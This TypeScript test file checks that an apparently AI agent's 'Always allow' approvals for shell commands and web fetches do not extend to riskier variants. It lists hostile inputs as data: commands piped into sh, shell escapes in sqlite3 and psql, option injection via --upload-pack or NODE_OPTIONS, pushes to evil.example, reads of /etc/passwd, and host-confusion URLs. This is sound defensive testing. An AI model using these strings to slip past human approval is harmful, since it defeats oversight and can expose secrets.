import assert from 'node:assert/strict';
import type { PolicyRequest } from '../../../src/policy/decision';
import { RuleSet } from '../../../src/policy/ruleSet';
import type { Proposal } from '../../../src/shared/proposals';
import { testPolicy } from '../../support/testPolicy';

/** What was accepted for good, and what the same answer must not let through afterwards. */
const FOLLOWING: Readonly<Record<string, readonly string[]>> = {
  'xvfb-run npm test': [
    'xvfb-run rm x',
    'xvfb-run sh x',
    'xvfb-run npm publish',
    'xvfb-run npm test --script-shell=./x',
  ],
  'cross-env NODE_ENV=test jest': [
    'cross-env sh x',
    'cross-env NODE_OPTIONS=-r./x jest',
    'cross-env NODE_ENV=test jest -c x',
  ],
  'fakeroot make install': ['fakeroot sh x', 'fakeroot make SHELL=./x'],
  'nix build': ['nix run x', 'nix shell x -c sh', 'nix build --impure --expr x'],
  'mise run build': ['mise exec -- sh x', 'mise run evil', 'mise x sh'],
  'sqlite3 a.db .tables': ['sqlite3 a.db ".shell x"', 'sqlite3 -cmd .shell a.db'],
  'direnv allow': ['direnv exec . sh'],
  'dotenv npm test': ['dotenv sh x'],
  'concurrently a b': ['concurrently "sh x"'],
  'nodemon a.js': ['nodemon -x sh'],
  'entr make': ['entr sh x'],
  'hyperfine ls': ['hyperfine "sh x"'],
  'script out.txt': ['script -c sh out.txt'],
  'dbus-run-session npm test': ['dbus-run-session sh x'],
  'asdf install': ['asdf exec sh'],
  'poetry run pytest': ['poetry run sh', 'poetry run pytest -p evil'],
  'uv run pytest': ['uv run sh', 'uv pip install x'],
  'mix test': ['mix run -e x', 'mix cmd sh'],
  'rake test': ['rake -f evil test', 'rake evil'],
  'bundle exec rspec': ['bundle exec sh'],
  'rails test': ['rails runner x', 'rails console'],
  'composer install': ['composer exec sh', 'composer require evil/x'],
  'npm install left-pad': [
    'npm install evil',
    'npm install left-pad evil',
    'npm install',
    'npm install left-pad --registry=http://h',
  ],
  'npm test': ['npm publish', 'npm test --script-shell=./x', 'npm run evil', 'npm test -- --config x'],
  'npm run build': ['npm run evil', 'npm run build --node-options=-r./x'],
  'yarn add left-pad': ['yarn add evil', 'yarn add'],
  'git push origin main': [
    'git push',
    'git push evil main',
    'git push origin main --exec=./x',
    'git push https://evil.example/x main',
  ],
  'git fetch origin': ['git fetch evil', 'git fetch origin --upload-pack=./x'],
  'git clone https://h.example/a': ['git clone https://evil.example/a', 'git clone https://h.example/a b'],
  'git commit -m x': ['git push', 'git commit -F .env', 'git commit -m x --template=y'],
  'git add -A': ['git rm x', 'git -c core.pager=./x add -A'],
  'curl https://h.example/a': [
    'curl https://evil.example/a',
    'curl https://h.example/a -o x',
    'curl https://h.example/a https://evil.example/b',
  ],
  'wget https://h.example/a': ['wget https://evil.example/a', 'wget https://h.example/b'],
  'make test': ['make evil', 'make test SHELL=./x', 'make', 'make test -f evil.mk'],
  'docker run --rm app': ['docker run --rm evil', 'docker run -v /:/h app'],
  'docker logs app': ['docker run app', 'docker -H tcp://h logs app', 'docker -H tcp://h ps'],
  'gh pr list': ['gh pr create', 'gh api x', 'gh pr merge 1'],
  'kubectl get pods': ['kubectl get secrets', 'kubectl delete pod x'],
  'cargo test': ['cargo install evil', 'cargo test --config x', 'cargo run'],
  'go test ./...': ['go test -exec ./x', 'go run evil', 'go generate'],
  'pip install requests': ['pip install evil', 'pip install requests evil'],
  'terraform plan': ['terraform apply', 'terraform plan -out=x'],
  'tar xf a.tar': ['tar xf b.tar', 'tar xf a.tar --to-command=x'],
  'pytest -x': ['pytest -p evil', 'pytest -c x'],
  'cp a b': ['cp a c', 'cp a b .envrc'],
  'touch a': ['touch b', 'touch .envrc'],
  'ansible-playbook a.yml': ['ansible-playbook evil.yml', 'ansible-playbook a.yml -e x'],
  'psql -c "select 1"': ['psql -c "\\\\! sh"'],
  'node --test': ['node --test --import ./x', 'node --test x.js', 'node x.js', 'cd evil && node --test | sh'],
  'python3 -m pytest -x': [
    'python3 -m pytest',
    'python3 -m pytest -x -p evil',
    'python3 -m http.server',
    'python3 x.py',
  ],
  'python manage.py test': ['python manage.py shell', 'python manage.py test --testrunner=x'],
  './gradlew build': ['./gradlew evil', './gradlew -I x build'],
  'java -jar a.jar': ['java -jar b.jar'],
  'ffmpeg -i a.mp4 b.mp3': ['ffmpeg -i a.mp4 .envrc'],
};
const FOLLOWING_POWERSHELL: Readonly<Record<string, readonly string[]>> = {
  'npm test': ['npm run evil', 'npm test --script-shell=./x', 'npm test; npm publish'],
  'git add -A': ['git push', 'git -c core.pager=./x add -A'],
  'New-Item a.txt': ['New-Item b.txt', 'New-Item a.txt -Force'],
  'xvfb-run npm test': ['xvfb-run sh x'],
};

describe('“Always allow”', () => {
  /** A policy that remembers; `rule` is what it was offered last. */
  const place = (shell: 'bash' | 'powershell' = 'bash') => {
    const rules = new RuleSet({
      read: async () => [],
      fixed: () => [],
      append: async () => undefined,
      now: () => new Date(0),
    });
    const policy = testPolicy({ shell, rules: () => rules.rules(), saveRule: choice => rules.save(choice) });
    const request = (proposal: Proposal): PolicyRequest => ({
      toolName: proposal.kind === 'fetch' ? 'web_fetch' : 'run_shell_command',
      args: proposal.kind === 'fetch' ? { url: proposal.urls[0], prompt: proposal.prompt } : {},
      proposal,
    });
    const decide = (proposal: Proposal) => policy.decide(request(proposal));
    return {
      run: (command: string) => decide({ kind: 'command', command, cwd: '/w' }),
      decide,
      accept: async (proposal: Proposal) => {
        const { decision, remember = [] } = await decide(proposal);
        assert.equal(decision, 'ask', JSON.stringify(proposal));
        const choice = remember.find(({ scope }) => scope === 'session');
        if (choice) await policy.remember(choice);
        return choice?.rule;
      },
    };
  };

  for (const [shell, corpus] of [
    ['bash', FOLLOWING],
    ['powershell', FOLLOWING_POWERSHELL],
  ] as const) {
    it(`allows what was seen and nothing more, in ${shell}`, async () => {
      for (const [command, following] of Object.entries(corpus)) {
        const { run, accept } = place(shell);
        const rule = await accept({ kind: 'command', command, cwd: '/w' });
        if (rule !== undefined) assert.equal((await run(command)).decision, 'allow', `${command}: ${rule}`);
        for (const next of following) assert.equal((await run(next)).decision, 'ask', `${rule ?? 'nothing'}: ${next}`);
      }
    });
  }

  it('is there for everyday commands, in PowerShell too', async () => {
    const everyday = ['npm test', 'npm run build', 'git add -A', 'git push origin main', 'cargo test', 'npm ci'];
    for (const command of [...everyday, 'node --test', 'python3 -m pytest -x', 'deno test', './gradlew test']) {
      for (const shell of ['bash', 'powershell'] as const) {
        assert.ok((await place(shell).accept({ kind: 'command', command, cwd: '/w' })) !== undefined, command);
      }
    }
    assert.ok(
      (await place('powershell').accept({ kind: 'command', command: 'New-Item a.txt', cwd: '/w' })) !== undefined,
    );
    for (const command of ['Node a.js', 'node.exe a.js', 'PYTHON a.py', 'Ruby.exe a.rb']) {
      assert.equal(await place('powershell').accept({ kind: 'command', command, cwd: '/w' }), undefined, command);
    }
    for (const command of ['node a.js', 'bash x.sh', 'sudo ls', 'python3 a.py', 'python3 -m http.server', './x.sh']) {
      assert.equal(await place().accept({ kind: 'command', command, cwd: '/w' }), undefined, command);
    }
  });

  it('of a host compares the host that is really asked', async () => {
    const { accept, decide } = place();
    const fetch = (url: string, prompt?: string): Proposal => ({
      kind: 'fetch',
      urls: [url],
      ...(prompt && { prompt }),
    });
    assert.equal(await accept(fetch('https://good.example/a')), 'host = "good.example"');
    const same = ['https://good.example/b', 'HTTPS://GOOD.example/x', 'http://good.example/', 'https:good.example/x'];
    for (const url of same) assert.equal((await decide(fetch(url))).decision, 'allow', url);
    const others = [
      'http:evil.example/',
      'http:/evil.example',
      'HTTP://evil.example/',
      'ht\ntp://evil.example/',
      'http:\\\\evil.example\\',
      'https://good.example@evil.example/',
      'https://good.example.evil.example/',
      'https://good.example:8443/',
      'https://evil.example/?https://good.example/',
      'https://evil.example/#https://good.example/',
      'file:///etc/passwd',
      'ftp://good.example/',
      '//good.example/',
      'https://good.example\\@evil.example/',
      'https://good%2eexample.evil.example/',
    ];
    for (const url of others) {
      const { host } = URL.canParse(url) ? new URL(url) : { host: '' };
      const wanted = host === 'good.example' && /^https?:$/.test(new URL(url).protocol) ? 'allow' : 'ask';
      assert.equal((await decide(fetch(url))).decision, wanted, url);
    }
    const both: Proposal = { kind: 'fetch', urls: ['https://good.example/', 'https://evil.example/'], prompt: 'x' };
    assert.equal((await decide(both)).decision, 'ask');
    for (const prompt of [
      'https://good.example/ and http:evil.example/',
      'https://good.example/ ht\ntp://evil.example/',
    ]) {
      assert.equal((await decide(fetch('https://good.example/', prompt))).decision, 'ask', prompt);
    }
    assert.equal(
      (await decide(fetch('https://good.example/', 'Read https://good.example/ please.'))).decision,
      'allow',
    );
  });
});
